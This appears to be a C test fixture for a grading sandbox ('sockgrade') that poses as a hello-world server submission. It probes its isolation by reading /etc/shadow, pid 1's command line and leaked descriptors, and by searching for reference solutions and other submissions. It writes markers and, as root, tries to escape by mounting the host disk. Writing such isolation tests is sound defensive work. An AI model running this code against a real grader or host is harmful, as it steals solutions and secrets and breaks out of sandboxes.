/* Hostile test data (sockgrade isolation test): a spy. Before serving like a
 * correct server it looks for what a box must hide and reports on stderr:
 *   - its ids, capabilities and any inherited descriptor beyond 0-2, and
 *     whether it can read the command line of pid 1 (the box's init is a
 *     fork of the grader: its argv names the host's folders and options);
 *   - every folder up its cwd, listed, and below each (depth 4) folders named
 *     reference/, reports/, specs/, submissions/, harness/ and other
 *     submissions (hello_server.c files): "FOUND <path>";
 *   - reads ../(../)*reference/hello/hello_server.c, /etc/shadow and the
 *     sibling scratch copies ../<pid>/hello_server.c: "READ <path>";
 *   - writes a marker into reports/ and harness/ folders it finds and into
 *     /tmp/sockgrade-canary: "WROTE <path>" (for the safety of the shared
 *     test machine it writes only below folders named sockgrade-iso*, which
 *     the test planted, and to the test's own canary);
 *   - running as root, it mounts the host's disk ("ESCAPE") and looks there.
 * The last line, "spy: done: ...", counts everything. In a box all are 0. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static char self[4096];
static int lines, found, nread, written, escapes, leaked;
static char shadow[64] = "readable", pid1[64];
static time_t deadline;

static void say(const char *fmt, ...)
{
    va_list ap;
    if (++lines > 24)                        /* only the last 4 KiB is kept */
        return;
    va_start(ap, fmt);
    vfprintf(stderr, fmt, ap);
    va_end(ap);
    fputc('\n', stderr);
}

static void try_read(const char *path)
{
    char buf[256];
    int fd = open(path, O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
    if (n >= 0) {
        nread++;
        say("READ %s (%zd bytes)", path, n);
    } else if (!strcmp(path, "/etc/shadow")) {
        snprintf(shadow, sizeof shadow, "%s", strerror(errno));
    }
    if (fd >= 0)
        close(fd);
}

static void try_write(const char *path, int append)
{
    char file[4200];
    if (!strstr(path, "sockgrade-iso") && !strstr(path, "sockgrade-canary"))
        return;                              /* safety: only what the test planted */
    snprintf(file, sizeof file, append ? "%s" : "%s/spy-was-here", path);
    int fd = open(file, O_WRONLY | (append ? O_APPEND : O_CREAT), 0666);
    if (fd >= 0 && write(fd, "spy was here\n", 13) == 13) {
        written++;
        say("WROTE %s", file);
    }
    if (fd >= 0)
        close(fd);
}

static void search(const char *dir, int depth)
{
    static const char *const skip[] = { "proc", "sys", "dev", "usr", "lib", "lib64", "bin",
                                        "sbin", "boot", "run", "etc", "var", ".git" };
    static const char *const wanted[] = { "reference", "reports", "specs", "submissions",
                                          "harness" };
    if (!strcmp(dir, self))
        return;                              /* its own scratch copy is fair game */
    DIR *d = opendir(dir);
    struct dirent *e;
    while (d && (e = readdir(d)) && time(NULL) < deadline) {
        char path[4096];
        struct stat st;
        int skipped = e->d_name[0] == '.' && (!e->d_name[1] || !strcmp(e->d_name, ".."));
        for (size_t i = 0; i < sizeof skip / sizeof *skip; i++)
            skipped |= !strcmp(e->d_name, skip[i]);
        snprintf(path, sizeof path, "%s/%s", strcmp(dir, "/") ? dir : "", e->d_name);
        if (skipped || !strcmp(path, self) || lstat(path, &st) < 0)
            continue;
        if (S_ISREG(st.st_mode) && !strcmp(e->d_name, "hello_server.c")) {
            found++;
            say("FOUND submission %s", path);
            try_read(path);
        }
        if (!S_ISDIR(st.st_mode))
            continue;
        for (size_t i = 0; i < sizeof wanted / sizeof *wanted; i++)
            if (!strcmp(e->d_name, wanted[i])) {
                found++;
                say("FOUND %s", path);
                if (i == 1 || i == 4)
                    try_write(path, 0);
            }
        if (depth > 0)
            search(path, depth - 1);
    }
    if (d)
        closedir(d);
}

/* Walks up from dir: lists each folder, tries reference/ beside it, searches below. */
static void walk_up(const char *dir)
{
    char p[4096], file[4200];
    snprintf(p, sizeof p, "%s", dir);
    for (;;) {
        int n = 0;
        DIR *d = opendir(p);
        while (d && readdir(d))
            n++;
        say("spy: ls %s: %s", p, d ? "listed" : strerror(errno));
        if (d)
            closedir(d);
        (void)n;
        snprintf(file, sizeof file, "%s/reference/hello/hello_server.c", strcmp(p, "/") ? p : "");
        try_read(file);
        search(p, 4);
        if (!strcmp(p, "/"))
            break;
        char *slash = strrchr(p, '/');
        if (slash == p)
            p[1] = '\0';
        else
            *slash = '\0';
    }
}

/* Root with CAP_SYS_ADMIN and CAP_MKNOD: mount the disk that holds /usr. */
static int escape(void)
{
    char line[1024], fstype[64] = "";
    unsigned maj = 0, min = 0;
    FILE *f = fopen("/proc/self/mountinfo", "r");
    while (f && fgets(line, sizeof line, f)) {
        char mnt[512], *dash = strstr(line, " - ");
        if (sscanf(line, "%*d %*d %u:%u %*s %511s", &maj, &min, mnt) == 3 && dash &&
            !strcmp(mnt, "/usr") && sscanf(dash, " - %63s", fstype) == 1)
            break;
        fstype[0] = '\0';
    }
    if (f)
        fclose(f);
    if (!*fstype || mount("none", "/tmp", "tmpfs", 0, NULL) < 0 ||
        mknod("/tmp/disk", S_IFBLK | 0600, makedev(maj, min)) < 0 || mkdir("/tmp/m", 0700) < 0 ||
        mount("/tmp/disk", "/tmp/m", fstype, 0, NULL) < 0) {
        say("spy: no escape as root: %s", strerror(errno));
        return -1;
    }
    escapes++;
    say("ESCAPE: mounted the host's disk (%u:%u %s) at /tmp/m", maj, min, fstype);
    return 0;
}

int main(int argc, char **argv)
{
    char status[4096] = "", file[4200], *cap, *nnp;
    deadline = time(NULL) + 2;
    if (!getcwd(self, sizeof self))
        strcpy(self, ".");
    int fd = open("/proc/self/status", O_RDONLY);
    ssize_t n = fd < 0 ? 0 : read(fd, status, sizeof status - 1);
    status[n > 0 ? n : 0] = '\0';
    cap = strstr(status, "CapEff:");
    nnp = strstr(status, "NoNewPrivs:");
    DIR *d = opendir("/proc/self/fd");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        char link[256] = "", path[300];
        int num = atoi(e->d_name);
        snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
        if (num > 2 && num != dirfd(d) && num != fd && readlink(path, link, sizeof link - 1) > 0) {
            leaked++;
            say("LEAKED fd %d -> %s", num, link);
        }
    }
    if (d)
        closedir(d);
    if (fd >= 0)
        close(fd);
    fd = open("/proc/1/cmdline", O_RDONLY);         /* the grader's argv? */
    n = fd < 0 ? -1 : read(fd, status, 200);
    snprintf(pid1, sizeof pid1, "%s", n > 0 ? "readable" : n == 0 ? "empty" : strerror(errno));
    for (ssize_t i = 0; i < n; i++)
        status[i] = status[i] ? status[i] : ' ';
    say("spy: INFO pid 1 is '%.*s'", (int)(n > 0 ? (n < 120 ? n : 120) : 0), status);
    if (fd >= 0)
        close(fd);

    strcpy(file, "reference/hello/hello_server.c");
    for (int up = 1; up <= 8; up++) {         /* ../reference/..., ../../reference/... */
        memmove(file + 3, file, strlen(file) + 1);
        memcpy(file, "../", 3);
        try_read(file);
    }
    try_read("/etc/shadow");
    walk_up(self);
    for (int pid = 1; pid < 100000; pid++) {  /* sibling scratch copies: <workroot>/<pid> */
        snprintf(file, sizeof file, "../%d/hello_server.c", pid);
        if (pid != atoi(strrchr(self, '/') + 1) && access(file, F_OK) == 0) {
            found++;
            say("FOUND submission %s", file);
            try_read(file);
        }
    }
    try_write("/tmp/sockgrade-canary", 1);
    if (geteuid() == 0 && escape() == 0) {
        deadline = time(NULL) + 2;
        try_read("/tmp/m/etc/shadow");
        try_write("/tmp/m/tmp/sockgrade-canary", 1);
        search("/tmp/m", 4);
        search("/tmp/m/tmp", 4);
    }
    fprintf(stderr, "spy: done: uid=%d euid=%d caps=%.16s nnp=%.1s leaked_fds=%d found=%d read=%d "
            "written=%d escapes=%d pid1_cmdline=%s shadow=%s\n", (int)getuid(), (int)geteuid(),
            cap ? cap + 8 : "?", nnp ? nnp + 12 : "?", leaked, found, nread, written, escapes, pid1,
            shadow);
    if (argc != 2)
        return 1;
    signal(SIGPIPE, SIG_IGN);
    int s = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[1])) };
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 16) < 0)
        return 1;
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c >= 0 && write(c, "Hello world!", 12) < 0) {
        }
        close(c);
    }
}
